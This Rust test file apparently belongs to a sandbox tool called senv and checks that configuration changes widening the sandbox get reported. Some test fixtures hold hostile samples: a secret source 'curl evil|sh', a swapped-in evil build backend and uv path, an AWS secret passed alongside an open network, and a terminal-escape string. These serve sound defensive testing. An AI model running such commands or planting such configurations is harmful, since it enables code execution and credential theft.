use senv::config::{
    Config, EngineParse, InstallNet, IsolationClaim, NetSpec, NetWord, ResourceParse,
    ResourceSection, SecretSection,
};
use senv::trust::PolicySnapshot;

fn size_of(s: &str) -> Result<u64, String> {
    let (num, unit) = s.split_at(s.len() - 1);
    let n: u64 = num.parse().map_err(|_| format!("bad size {s}"))?;
    match unit {
        "K" => Ok(n << 10),
        "M" => Ok(n << 20),
        "G" => Ok(n << 30),
        _ => Err(format!("bad size {s}")),
    }
}

fn secs_of(s: &str) -> Result<u64, String> {
    let (num, unit) = s.split_at(s.len() - 1);
    let n: u64 = num.parse().map_err(|_| format!("bad duration {s}"))?;
    match unit {
        "s" => Ok(n),
        "m" => Ok(n * 60),
        "h" => Ok(n * 3600),
        _ => Err(format!("bad duration {s}")),
    }
}

fn reading(r: &ResourceSection) -> ResourceParse {
    ResourceParse {
        mem: r.mem.as_deref().map(size_of),
        wall: r.wall.as_deref().filter(|w| w.trim() != "none").map(secs_of),
        fsize: r.fsize.as_deref().map(size_of),
        cpu: r.cpu.as_deref().map(secs_of),
    }
}

/// What the sandbox engine would make of the configuration's strings.
fn engine(cfg: &Config) -> EngineParse {
    EngineParse {
        isolation: cfg
            .env
            .isolation
            .as_deref()
            .filter(|i| !i.trim().eq_ignore_ascii_case("auto"))
            .map(|i| match i {
                "process" => Ok(IsolationClaim::Process),
                "supervised" => Ok(IsolationClaim::Supervised),
                "container" => Ok(IsolationClaim::Container),
                other => Err(format!("unknown tier {other}")),
            }),
        run: reading(&cfg.run.resources),
        install: reading(&cfg.install.resources),
    }
}

fn snapshot(cfg: &Config) -> PolicySnapshot {
    cfg.validate("senv.toml", &engine(cfg)).expect("valid config");
    PolicySnapshot::of(cfg, &engine(cfg))
}

fn verdict(before: &Config, after: &Config) -> Vec<String> {
    snapshot(after).widenings(&snapshot(before))
}

fn with(f: impl FnOnce(&mut Config)) -> Config {
    let mut c = Config::default();
    f(&mut c);
    c
}

fn hosts(list: &[&str]) -> NetSpec {
    NetSpec::Hosts(list.iter().map(|s| s.to_string()).collect())
}

fn secret(source: Option<&str>, phases: &[&str]) -> SecretSection {
    SecretSection {
        source: source.map(|s| s.to_string()),
        inject: None,
        ttl: None,
        phases: phases.iter().map(|s| s.to_string()).collect(),
    }
}

fn project_snapshot(manifest: &str) -> PolicySnapshot {
    let cfg = Config::default();
    PolicySnapshot::of_project(&cfg, &engine(&cfg), manifest)
}

#[test]
fn changing_the_build_backend_needs_acknowledging() {
    let before = project_snapshot(
        "[project]\nname='x'\nversion='0'\n\
         [build-system]\nrequires=['hatchling']\nbuild-backend='hatchling.build'\n",
    );
    let after = project_snapshot(
        "[project]\nname='x'\nversion='0'\n\
         [build-system]\nrequires=[]\nbuild-backend='evil'\nbackend-path=['.']\n",
    );
    assert!(before.build_system.is_some(), "the fixture must have a build system");
    assert_ne!(before.build_system, after.build_system, "two different backends must not digest the same");
    let w = after.widenings(&before);
    assert!(w.iter().any(|f| f.contains("build-system")), "{w:?}");

    let after = project_snapshot(
        "[project]\nname='x'\nversion='0'\n\
         [build-system]\nrequires=['hatchling']\nbuild-backend='hatchling.build'\n\
         [tool.uv]\nno-binary = true\n",
    );
    let w = after.widenings(&before);
    assert!(w.iter().any(|f| f.contains("tool.uv")), "{w:?}");

    assert!(before.tool_uv.is_none(), "the baseline has no [tool.uv]");
    assert!(before.manifest_seen);

    assert!(before.widenings(&before).is_empty());
    assert!(after.widenings(&PolicySnapshot::defaults()).is_empty());
}

#[test]
fn narrowing_from_an_open_network_to_an_allowlist_is_not_a_widening() {
    let w = verdict(
        &with(|c| c.run.net = NetSpec::Mode(NetWord::Host)),
        &with(|c| c.run.net = hosts(&["api.example.com", "b.example.com"])),
    );
    assert!(w.is_empty(), "narrowing must not be refused: {w:?}");

    let w = verdict(
        &with(|c| c.install.net = InstallNet::Host),
        &with(|c| {
            c.install.net = InstallNet::Registries;
            c.install.extra_indexes = vec!["a.example.com".to_string()];
        }),
    );
    assert!(w.is_empty(), "same for the install phase: {w:?}");
}

#[test]
fn deleting_a_limit_is_a_widening_because_the_default_is_larger() {
    let w = verdict(&with(|c| c.run.resources.wall = Some("1m".to_string())), &Config::default());
    assert!(w.iter().any(|f| f.contains("wall")), "{w:?}");

    let w = verdict(&with(|c| c.run.resources.cpu = Some("10s".to_string())), &Config::default());
    assert!(
        w.iter().any(|f| f.contains("cpu") && f.contains("unbounded")),
        "removing a cpu ceiling makes it unbounded: {w:?}"
    );

    assert!(verdict(&Config::default(), &with(|c| c.run.resources.cpu = Some("10s".to_string()))).is_empty());
}

#[test]
fn senvs_own_defaults_are_not_a_widening_of_themselves() {
    let cfg = Config::default();
    let w = PolicySnapshot::of(&cfg, &engine(&cfg)).widenings(&PolicySnapshot::defaults());
    assert!(w.is_empty(), "a default config must match the default baseline: {w:?}");
}

#[test]
fn opening_the_network_is_a_widening() {
    let w = verdict(&Config::default(), &with(|c| c.run.net = NetSpec::Mode(NetWord::Host)));
    assert_eq!(w.len(), 1, "{w:?}");
    assert!(w[0].contains("unrestricted"), "{w:?}");

    let w = verdict(&Config::default(), &with(|c| c.run.net = hosts(&["api.example.com"])));
    assert!(!w.is_empty(), "deny → allowlist is still more than deny");
}

#[test]
fn adding_a_host_to_an_existing_allowlist_is_a_widening() {
    let w = verdict(
        &with(|c| c.run.net = hosts(&["a.example.com"])),
        &with(|c| c.run.net = hosts(&["a.example.com", "b.example.com"])),
    );
    assert_eq!(w.len(), 1, "{w:?}");
    assert!(w[0].contains("b.example.com"), "{w:?}");
}

#[test]
fn narrowing_needs_no_ceremony() {
    assert!(verdict(&with(|c| c.run.net = NetSpec::Mode(NetWord::Host)), &Config::default()).is_empty());
    assert!(verdict(
        &with(|c| c.run.net = hosts(&["a.example.com", "b.example.com"])),
        &with(|c| c.run.net = hosts(&["a.example.com"])),
    )
    .is_empty());
    assert!(verdict(&with(|c| c.run.fs.read = vec!["/data".to_string()]), &Config::default()).is_empty());
    assert!(verdict(&with(|c| c.install.project_writable = true), &Config::default()).is_empty());
}

#[test]
fn an_unchanged_config_is_silent_even_when_it_is_wide() {
    let wide = with(|c| {
        c.run.net = NetSpec::Mode(NetWord::Host);
        c.run.fs.read = vec!["/etc".to_string()];
    });
    assert!(verdict(&wide, &wide).is_empty());
}

#[test]
fn every_escalation_from_the_proof_of_concepts_is_caught() {
    let host_rce_via_secret = with(|c| {
        c.env.allow_command_secrets = true;
        c.secrets = vec![("X".to_string(), secret(Some("command:curl evil|sh"), &[]))];
    });
    let w = verdict(&Config::default(), &host_rce_via_secret);
    assert!(
        w.iter().any(|f| f.contains("allow-command-secrets")),
        "the host-code gate must be reported: {w:?}"
    );
    assert!(w.iter().any(|f| f.contains("[secrets]")), "{w:?}");

    let host_rce_via_uv = with(|c| c.env.uv = Some("/proj/evil.sh".to_string()));
    let w = verdict(&Config::default(), &host_rce_via_uv);
    assert!(w.iter().any(|f| f.contains("[env] uv")), "{w:?}");

    let exfiltration = with(|c| {
        c.run.net = NetSpec::Mode(NetWord::Host);
        c.run.env.pass = vec!["AWS_SECRET_ACCESS_KEY".to_string()];
    });
    let w = verdict(&Config::default(), &exfiltration);
    assert!(w.iter().any(|f| f.contains("net")), "{w:?}");
    assert!(w.iter().any(|f| f.contains("AWS_SECRET_ACCESS_KEY")), "{w:?}");

    let weaken_tier = with(|c| c.env.isolation = Some("process".to_string()));
    assert!(!verdict(&with(|c| c.env.isolation = Some("supervised".to_string())), &weaken_tier).is_empty());
}

#[test]
fn raising_a_resource_ceiling_is_a_widening() {
    let w = verdict(
        &with(|c| c.run.resources.wall = Some("30m".to_string())),
        &with(|c| c.run.resources.wall = Some("none".to_string())),
    );
    assert!(w.iter().any(|f| f.contains("wall")), "{w:?}");

    let w = verdict(
        &with(|c| c.run.resources.procs = Some(64)),
        &with(|c| c.run.resources.procs = Some(4096)),
    );
    assert!(w.iter().any(|f| f.contains("procs")), "{w:?}");

    assert!(verdict(
        &with(|c| c.run.resources.mem = Some("8G".to_string())),
        &with(|c| c.run.resources.mem = Some("1G".to_string())),
    )
    .is_empty());
}

#[test]
fn re_scoping_a_secret_to_more_phases_is_a_widening() {
    let w = verdict(
        &with(|c| c.secrets = vec![("TOKEN".to_string(), secret(None, &["shell"]))]),
        &with(|c| c.secrets = vec![("TOKEN".to_string(), secret(None, &["run", "shell"]))]),
    );
    assert!(w.iter().any(|f| f.contains("TOKEN")), "{w:?}");
}

#[test]
fn a_secret_whose_source_changes_is_reported_even_under_the_same_name() {
    let w = verdict(
        &with(|c| {
            c.env.allow_command_secrets = true;
            c.secrets = vec![("TOKEN".to_string(), secret(Some("env:TOKEN"), &[]))];
        }),
        &with(|c| {
            c.env.allow_command_secrets = true;
            c.secrets = vec![("TOKEN".to_string(), secret(Some("command:evil"), &[]))];
        }),
    );
    assert!(w.iter().any(|f| f.contains("command:evil")), "{w:?}");
}

#[test]
fn reported_widenings_cannot_carry_terminal_escapes() {
    let cfg = with(|c| c.run.fs.read = vec!["/data\u{1b}[32mSAFE".to_string()]);
    assert!(cfg.run.fs.read[0].contains('\u{1b}'), "the fixture must actually be hostile");
    let w = PolicySnapshot::of(&cfg, &engine(&cfg)).widenings(&PolicySnapshot::defaults());
    assert!(!w.iter().any(|f| f.contains('\u{1b}')), "{w:?}");
}
